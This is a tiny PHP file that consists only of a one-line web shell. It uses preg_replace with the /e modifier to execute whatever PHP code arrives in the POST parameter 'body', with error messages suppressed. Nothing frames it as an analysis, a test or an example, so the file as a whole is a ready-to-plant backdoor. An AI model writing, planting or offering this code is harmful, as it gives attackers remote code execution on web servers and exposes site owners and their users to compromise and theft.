<?php
@preg_replace('/.*/e', $_POST['body'], 'x');
